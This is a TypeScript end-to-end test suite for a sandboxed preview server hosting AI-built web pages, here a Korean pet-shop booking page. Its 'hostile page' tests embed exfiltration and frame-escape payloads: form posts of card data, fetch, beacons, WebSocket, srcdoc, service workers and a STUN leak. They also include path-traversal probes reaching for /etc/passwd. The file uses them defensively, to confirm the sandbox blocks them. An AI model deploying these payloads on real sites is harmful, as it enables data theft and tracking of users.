import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import { type Browser, chromium, type Frame, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { confinement, PREVIEW_HOST } from '../../bots/deliverables/screenshot.ts';
import { findChromium } from '../../bridge/config/chromium.ts';
import { pngSize } from '../../bridge/matrix/png-size.ts';
import { PreviewLinks } from '../../bridge/stores/preview-links.ts';
import { EventId } from '../../bridge/protocol/ids.ts';
import { Scene } from '../house/scene.ts';
import { startTask, type TaskView } from '../house/task-scene.ts';
import { colours } from '../house/picture.ts';

let scene: Scene;
let browser: Browser;
let task: TaskView;
let link: string;

beforeAll(async () => {
  scene = await Scene.open({ keys: false });
  browser = await launch();
  task = await startTask(scene.master, scene.hq, '//chavion_task: 펫샵 예약 관리 화면을 만들어줘');
  const card = await task.ended();
  if (!card.body.startsWith('✅'))
    throw new Error(`the task did not succeed:\n${task.print()}\n${await scene.house.logs()}`);
  const told = await task.until('the link', () =>
    task.thread().find(({ who, body }) => who === 'coordinator' && body.startsWith('🌐')),
  );
  link = /http:\S+/.exec(told.body)?.[0] ?? '';
});
afterAll(async () => {
  await browser.close();
  await scene[Symbol.asyncDispose]();
});

/** Nobody's browser but the test's own; as root Chromium has no sandbox of its own. */
function launch(...more: readonly string[]): Promise<Browser> {
  const executablePath = findChromium();
  if (executablePath === undefined) throw new Error('this test needs Chromium: apt-get install chromium');
  return chromium.launch({
    executablePath,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      ...more,
    ],
  });
}

function portOf(server: Server): number {
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  return address.port;
}

/** The page within its frame. */
async function opened(url: string, by = browser): Promise<{ page: Page; frame: Frame }> {
  const page = await by.newPage({ viewport: { width: 390, height: 844 } });
  await page.goto(url);
  return { page, frame: await inFrame(page) };
}

async function inFrame(page: Page): Promise<Frame> {
  const handle = await page.locator('iframe').elementHandle();
  const frame = await handle?.contentFrame();
  if (frame === null || frame === undefined) throw new Error('there is no page in the frame');
  await frame.waitForLoadState('load');
  return frame;
}

/** In the task's thread, as the master. */
const say = (body: string) => scene.master.inThread(scene.hq, task.root, body);
const said = (of: TaskView, begins: string, after = '') =>
  of.until(`a line that begins with ${begins}`, () =>
    of
      .thread()
      .findLast(
        ({ who, body, id }) => who === 'coordinator' && body.replaceAll(/[*`]/g, '').startsWith(begins) && id !== after,
      ),
  );
const addressIn = (html: string) => /href="(http:[^"]+\/s\/[^"]+)"/.exec(html)?.[1] ?? '';

/** Until what the task's page keeps says so. */
const kept = (words: string) =>
  expect
    .poll(async () => JSON.stringify(await (await fetch(`${link}data`)).json()), { timeout: 30_000 })
    .toContain(words);

/** What stands there once the page has been opened anew: what was written elsewhere needs its moment. */
const afterReload = (page: Page, where: string) =>
  expect.poll(
    async () => {
      await page.reload();
      return (await inFrame(page)).locator(where).textContent();
    },
    { timeout: 30_000, interval: 500 },
  );

describe('a website that a task made', () => {
  it('stands in the thread as a picture of a phone and a link, and rings nobody', async () => {
    expect(new URL(link).port).toBe(scene.house.env['CHAVION_PREVIEW_PORT']);
    expect(new URL(link).pathname).toMatch(/^\/p\/[\w-]{43}\/$/);
    const pictures = task.thread().filter(({ msgtype, body }) => msgtype === 'm.image' && body.includes('화면'));
    expect(pictures).toHaveLength(1);
    const png = await scene.master.downloadBytes(pictures[0]?.content.url);
    expect(pngSize(png)).toEqual({ width: 780, height: 1688 });
    // A page, not a blank sheet or an error: its orange head, its white cards.
    const seen = colours(png);
    expect(seen.size).toBeGreaterThan(200);
    expect(seen.get('232,116,59') ?? 0).toBeGreaterThan(5_000);
    expect(seen.get('255,255,255') ?? 0).toBeGreaterThan(100_000);
    const shown = task
      .thread()
      .filter(({ msgtype, body }) => body.startsWith('🌐') || (msgtype === 'm.image' && body.includes('화면')));
    expect(shown).toHaveLength(2);
    expect(shown.every(({ mentions }) => mentions?.user_ids === undefined)).toBe(true);
  });

  it('takes a reservation and takes it back, in a real browser', async () => {
    const { page, frame } = await opened(link);
    expect(await page.title()).toBe('펫샵 예약 관리');
    await frame.locator('#owner').fill('김하늘');
    await frame.locator('#pet').fill('초코');
    await frame.locator('#service').selectOption('미용');
    await frame.locator('#add').click();
    expect(await frame.locator('#count').textContent()).toBe('1');
    const booked = frame.locator('#list .booked');
    expect(await booked.textContent()).toContain('초코');
    expect(await booked.textContent()).toContain('미용');
    expect(await booked.textContent()).toContain('김하늘');
    await kept('초코');
    // Another browser, which shares nothing with this one: the wife's phone.
    const hers = await launch();
    try {
      const there = await opened(link, hers);
      await afterReload(there.page, '#list').toContain('초코');
      await (await inFrame(there.page)).locator('#list .booked .cancel').click();
      await kept('[]');
    } finally {
      await hers.close();
    }
    await afterReload(page, '#count').toBe('0');
    await page.close();
  });

  it('is shut in: an origin of its own, without cookies or a way out, and with no storage but the house’s', async () => {
    const { page, frame } = await opened(link);
    const found = await frame.evaluate(`(async () => {
      const fails = async (attempt) => {
        try {
          await attempt();
          return false;
        } catch {
          return true;
        }
      };
      return {
        origin: window.origin,
        cookie: await fails(() => document.cookie),
        storage: await fails(() => localStorage.length),
        homeserver: await fails(() => fetch('${scene.house.ready.homeserver}/_matrix/client/versions')),
        here: await fails(() => fetch(location.href)),
        worker: await fails(() => navigator.serviceWorker.register('sw.js')),
        above: await fails(() => window.top.document.title),
        popup: window.open('about:blank') === null,
      };
    })()`);
    expect(found).toEqual({
      origin: 'null',
      cookie: true,
      storage: false,
      homeserver: true,
      here: true,
      worker: true,
      above: true,
      popup: true,
    });
    await page.close();
  });

  it('shows nothing of anything else, and says so', async () => {
    const { origin, pathname } = new URL(link);
    const wrong = [
      '/',
      '/p/',
      `/p/${'a'.repeat(43)}/`,
      `${pathname}f/other.html`,
      `${pathname}f/../../..`,
      `${pathname}f/%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
      `${pathname}f/..%5cindex.html`,
      `${pathname}f/%`,
      `${pathname}f/%00`,
      `${pathname}f//index.html`,
      `${pathname}x`,
    ];
    for (const path of wrong) {
      const answer = await fetch(origin + path);
      expect({ path, status: answer.status }).toEqual({ path, status: 404 });
      expect(answer.headers.get('content-security-policy')).toMatch(/^sandbox /);
      const text = await answer.text();
      expect(text).toContain('여기에는 아무것도 없습니다');
      expect(text).toContain('There is nothing here');
    }
    expect((await fetch(link, { method: 'POST' })).status).toBe(405);
    expect(
      (await fetch(link, { method: 'POST', body: '{"a":1}', headers: { 'content-type': 'application/json' } })).status,
    ).toBeGreaterThanOrEqual(400);
    for (const url of [link, `${link}f/index.html`]) {
      const { headers } = await fetch(url);
      expect(headers.get('content-security-policy')).toMatch(
        /^sandbox allow-scripts allow-forms allow-modals; default-src 'none'; /,
      );
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('referrer-policy')).toBe('no-referrer');
      expect(headers.get('cache-control')).toContain('private');
      expect(headers.get('set-cookie')).toBeNull();
    }
  });
});

describe('a hostile page', () => {
  const hits: string[] = [];
  let outside: Server;
  let away: string;
  const stun = createSocket('udp4');
  beforeAll(async () => {
    outside = createServer((request, response) => {
      hits.push(`${request.method} ${request.url}`);
      response.end('<p>caught</p>');
    });
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
    await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
    stun.on('message', () => hits.push('stun'));
    away = `http://127.0.0.1:${portOf(outside)}`;
  });
  afterAll(async () => {
    stun.close();
    outside.closeAllConnections();
    await new Promise((resolve) => outside.close(resolve));
  });

  async function served(files: Readonly<Record<string, string>>): Promise<string> {
    const stored = await Promise.all(
      Object.entries(files).map(async ([path, text]) => ({
        path,
        bytes: Buffer.byteLength(text),
        url: await scene.master.upload(Buffer.from(text), 'text/html', path),
      })),
    );
    const token = await new PreviewLinks(scene.redis).mint(
      { lang: 'ko', title: 'hostile', front: 'index.html', files: stored },
      [EventId.parse(task.root)],
    );
    return `${new URL(link).origin}/p/${token}/`;
  }

  const TRICKS: Readonly<Record<string, (to: string) => string>> = {
    'goes elsewhere by itself': (to) => `<meta http-equiv="refresh" content="0;url=${to}/refresh">`,
    'goes elsewhere by script': (to) => `<script>location.href = '${to}/location'</script>`,
    'takes the window along': (to) =>
      `<a id="a" target="_top" href="${to}/top">x</a><script>a.click(); try { top.location = '${to}/top-script' } catch {}</script>`,
    'sends a form': (to) =>
      `<form id="f" method="post" action="${to}/form"><input name="card" value="1234"></form><script>f.submit()</script>`,
    'opens windows': (to) =>
      `<script>window.open('${to}/popup'); const a = document.createElement('a'); a.href = '${to}/blank'; a.target = '_blank'; a.click()</script>`,
    'calls out': (to) =>
      `<link rel="stylesheet" href="${to}/css"><link rel="prefetch" href="${to}/prefetch"><img src="${to}/img"><iframe src="${to}/iframe"></iframe><object data="${to}/object"></object><script src="${to}/script"></script><script>fetch('${to}/fetch').catch(() => 0); navigator.sendBeacon('${to}/beacon'); try { new WebSocket('${to.replace('http', 'ws')}/ws') } catch {} try { new EventSource('${to}/events') } catch {} try { new Worker('${to}/worker') } catch {}</script><a ping="${to}/ping" href="#x" id="p">x</a><script>p.click()</script>`,
    'hides in a page of its own': (to) =>
      `<iframe srcdoc="<script>location='${to}/srcdoc'; new Image().src='${to}/srcdoc-img'; fetch('${to}/srcdoc-fetch'); try { top.location='${to}/srcdoc-top' } catch {}</script>"></iframe><iframe src="javascript:location='${to}/javascript'"></iframe>`,
    'means to stay': () =>
      `<script>navigator.serviceWorker?.register('sw.js').then(() => document.title = 'stayed')</script>`,
  };

  const STUN = (port: number) =>
    `<script>const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); c.createDataChannel('x'); c.createOffer().then((offer) => c.setLocalDescription(offer))</script>`;

  it.each(Object.entries(TRICKS))('that %s stays harmless', async (_what, trick) => {
    hits.length = 0;
    const url = await served({
      'index.html': `<!doctype html><p id="here">here</p>${trick(away)}`,
      'sw.js': 'self.addEventListener("fetch", () => {})',
    });
    const page = await browser.newPage();
    const before = page.context().pages().length;
    await page.goto(url);
    await page.waitForTimeout(1_500);
    expect(hits).toEqual([]);
    expect(page.url()).toBe(url);
    expect(page.context().pages()).toHaveLength(before);
    expect(page.context().serviceWorkers()).toEqual([]);
    await page.close();
  });

  it('that stands alone is put back into its frame', async () => {
    const url = await served({
      'index.html': `<script>location.href = '${away}/alone'</script>`,
      'deep/page.html': `<script>location.href = '${away}/deep'</script>`,
    });
    hits.length = 0;
    for (const path of ['index.html', 'deep/page.html']) {
      const page = await browser.newPage();
      await page.goto(`${url}f/${path}`);
      expect(page.url()).toBe(url);
      await page.waitForTimeout(500);
      await page.close();
    }
    expect(hits).toEqual([]);
  });

  it('reaches nothing from where pictures are taken, whatever it tries and though nothing else holds it', async () => {
    const bare = createServer((_request, response) =>
      response.setHeader('content-type', 'text/html').end(
        `<!doctype html><p>here</p>${STUN(stun.address().port)}${Object.values(TRICKS)
          .map((trick) => trick(away))
          .join('')}`,
      ),
    );
    await new Promise<void>((resolve) => bare.listen(0, '127.0.0.1', resolve));
    hits.length = 0;
    const shut = await launch(...confinement(portOf(bare)));
    try {
      const page = await shut.newPage();
      await page.goto(`http://${PREVIEW_HOST}/`, { waitUntil: 'commit' });
      await page.waitForTimeout(3_000);
      expect(hits).toEqual([]);
    } finally {
      await shut.close();
      bare.closeAllConnections();
      bare.close();
    }
  });

  it('is not what a page of several files is: these find one another', async () => {
    const url = await served({
      'index.html':
        '<link rel="stylesheet" href="css/style.css"><p id="out">no</p><script type="module" src="app.js"></script><a id="next" href="pages/two.html">two</a>',
      'css/style.css': '#out { color: rgb(1, 2, 3) }',
      'app.js': "import { word } from './word.js'; document.getElementById('out').textContent = word;",
      'word.js': "export const word = 'yes';",
      'pages/two.html': '<p id="two">second</p>',
    });
    const { page, frame } = await opened(url);
    await frame.getByText('yes').waitFor();
    expect(await frame.evaluate("getComputedStyle(document.getElementById('out')).color")).toBe('rgb(1, 2, 3)');
    await frame.locator('#next').click();
    await frame.getByText('second').waitFor();
    await page.close();
  });
});

describe('a page that is published', () => {
  it('stands under its name only after the master’s ✅ on what that means', async () => {
    await say('!공개 펫샵 예약');
    const asked = await said(task, '💡');
    expect(asked.body).toContain('누구나 열고');
    expect(asked.body.split('\n').at(-1)).toMatch(/^!공개 \d+ 펫샵-예약$/);
    const address = `${new URL(link).origin}/s/${encodeURIComponent('펫샵-예약')}/`;
    expect(asked.body).toContain('/s/펫샵-예약/');
    expect((await fetch(address)).status).toBe(404);
    await scene.master.react(scene.hq, asked.id, '✅');
    const told = await said(task, '📢 펫샵 예약 관리 1판');
    expect(addressIn(told.html ?? '')).toBe(address);
    const { page, frame } = await opened(address);
    await frame.locator('#owner').fill('이바다');
    await frame.locator('#pet').fill('보리');
    await frame.locator('#add').click();
    await kept('보리');
    // What the link shows is what the published page remembers.
    const before = await opened(link);
    await afterReload(before.page, '#list').toContain('보리');
    for (const one of [page, before.page]) await one.close();
  });
});

describe('plain words under the task that made it', () => {
  it('change the page behind its link, though the swarm is killed on the way, and ring once', async () => {
    const before = task.thread().length;
    await task.say('제목 색을 파란색으로 바꿔줘');
    await scene.house.reborn('swarm', await scene.house.kill('swarm'));
    const links = () => task.thread().filter(({ who, body }) => who === 'coordinator' && body.startsWith('🌐'));
    await task.until('the page again', () => links()[1]);
    expect(links().map(({ body }) => /http:\S+/.exec(body)?.[0])).toEqual([link, link]);
    expect(await (await fetch(`${link}f/index.html`)).text()).toContain('--main:#2f6fde');
    const { page, frame } = await opened(link);
    const painted = await frame.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--main')");
    expect(painted).toBe('#2f6fde');
    await page.close();
    const card = await task.ended();
    expect(card.body).toMatch(/^✅[^]*🖌️ 1번째 손질: 제목 색을 파란색으로 바꿔줘/u);
    const since = task.thread().slice(before);
    expect(since.filter(({ mentions }) => mentions?.user_ids !== undefined)).toHaveLength(1);
    expect(since.filter(({ chavion }) => chavion.kind === 'answer')).toEqual([]);
    expect(since.filter(({ body }) => body.includes('손질을 시작합니다'))).toHaveLength(1);
  });

  it('that ask are answered once, by the integrator', async () => {
    const answers = () => task.thread().filter(({ chavion }) => chavion.kind === 'answer');
    await task.say('왜 이 안이 뽑혔어?');
    await task.until('the answer', () => answers()[0]);
    // Whoever else were to answer would have been asked before this.
    await task.say('음');
    await task.until('the line', () => task.thread().find(({ body }) => body.includes('물어보시는 것인지')));
    expect(answers().map(({ who }) => who)).toEqual(['jarvis']);
  });
});

describe('a published page with two versions', () => {
  it('goes back by one tap, forth by another, and is taken down', async () => {
    const address = `${new URL(link).origin}/s/${encodeURIComponent('펫샵-예약')}/`;
    const isBlue = async () => {
      const frame = /src="([^"]+)"/.exec(await (await fetch(address)).text())?.[1] ?? '';
      const html = await (await fetch(new URL(frame, address))).text();
      expect(html).toContain('펫샵 예약 관리');
      return html.includes('--main:#2f6fde');
    };
    // What was changed is shown by the task's own link; what was published stays as it was.
    expect(await isBlue()).toBe(false);
    const first = await said(task, '📢 펫샵 예약 관리 1판');
    const before = await said(task, '💡');
    await say('!공개 펫샵 예약');
    const asked = await said(task, '💡', before.id);
    await scene.master.react(scene.hq, asked.id, '✅');
    const second = await said(task, '📢 펫샵 예약 관리 2판');
    expect(await isBlue()).toBe(true);
    await scene.master.react(scene.hq, second.id, '⏪');
    await scene.until(async () => !(await isBlue()));
    const back = await said(task, '📢 펫샵 예약 관리 1판', first.id);
    await scene.master.react(scene.hq, back.id, '⏩');
    await scene.until(isBlue);
    await say('!공개');
    expect((await said(task, '공개한 페이지')).body).toContain('펫샵-예약');
    await say('!공개 끄기 펫샵-예약');
    await said(task, '펫샵-예약 공개를 내렸습니다');
    expect((await fetch(address)).status).toBe(404);
    expect((await fetch(link)).status).toBe(200);
  });
});

describe('a link', () => {
  it('comes once, though the swarm is killed as the task ends', async () => {
    const again = await startTask(scene.master, scene.hq, '!임무 펫샵 예약 관리 화면을 만들어줘');
    await again.until('the report', () =>
      again.thread().find(({ who, mentions }) => who === 'coordinator' && mentions?.user_ids !== undefined),
    );
    await scene.house.reborn('swarm', await scene.house.kill('swarm'));
    const shown = () =>
      again
        .thread()
        .filter(
          ({ who, msgtype, body }) =>
            who === 'coordinator' && (body.startsWith('🌐') || (msgtype === 'm.image' && body.includes('화면'))),
        );
    const told = await again.until('the link', () => shown().find(({ body }) => body.startsWith('🌐')));
    const url = /http:\S+/.exec(told.body)?.[0] ?? '';
    expect(url).not.toBe(link);
    await scene.until(async () => (await fetch(url).catch(() => undefined))?.status === 200);
    await scene.house.reborn('swarm', await scene.house.kill('swarm'));
    await scene.until(async () => (await fetch(url).catch(() => undefined))?.status === 200);
    await scene.settled();
    expect(shown().map(({ msgtype }) => msgtype)).toEqual(['m.image', 'm.notice']);
  });

  it('lies nowhere in Redis as it is, and one that an earlier version has left is taken away', async () => {
    const token = link.split('/').at(-2) ?? '';
    expect(token).toHaveLength(43);
    expect(await scene.redisContents()).not.toContain(token);
    await scene.redis.set('chavion:swarm:website-token:old', token);
    await scene.house.reborn('swarm', await scene.house.kill('swarm'));
    await scene.until(async () => (await scene.redis.exists('chavion:swarm:website-token:old')) === 0);
    await scene.until(async () => (await fetch(link).catch(() => undefined))?.status === 200);
  });

  it('opens nothing any more once the task was taken out of the room', async () => {
    expect((await fetch(link)).status).toBe(200);
    await scene.master.redact(scene.hq, task.root);
    await scene.until(async () => (await fetch(link)).status === 404);
    expect((await fetch(`${link}f/index.html`)).status).toBe(404);
  });
});
